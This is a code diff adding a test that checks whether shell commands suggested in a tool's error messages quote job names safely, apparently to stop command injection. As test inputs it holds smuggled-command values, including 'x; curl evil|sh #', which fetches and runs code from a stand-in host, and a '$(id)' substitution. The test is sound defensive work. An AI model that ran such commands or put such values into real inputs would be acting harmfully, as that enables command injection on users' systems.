@@ -40,6 +40,14 @@ def raised_codes() -> Iterator[tuple[str, str]]:
                         yield literal.value, f"{path.relative_to(ROOT)}:{node.lineno}"
 
 
+def test_a_command_to_type_is_harmless_whatever_a_host_calls_its_jobs() -> None:
+    told = say(LtError("job_alive", job="x; curl evil|sh #", state="running"), "en")
+    assert told.next == "lt stop 'x; curl evil|sh #' ends it first"
+    assert say(LtError("job_alive", job="$(id)"), "zh").next.count("lt stop '$(id)'") == 1
+    assert say(LtError("job_alive", job="sft-1"), "en").next == "lt stop sft-1 ends it first"
+    assert "echo 'a'\"'\"'b' >>" in say(LtError("folder_too_big", first="a'b"), "en").next
+
+
 @pytest.mark.parametrize("catalogue", [english, chinese], ids=["en", "zh"])
 def test_every_error_of_the_source_has_a_sentence(catalogue: object) -> None:
     errors: dict[str, tuple[str, str]] = catalogue.ERRORS  # type: ignore[attr-defined]
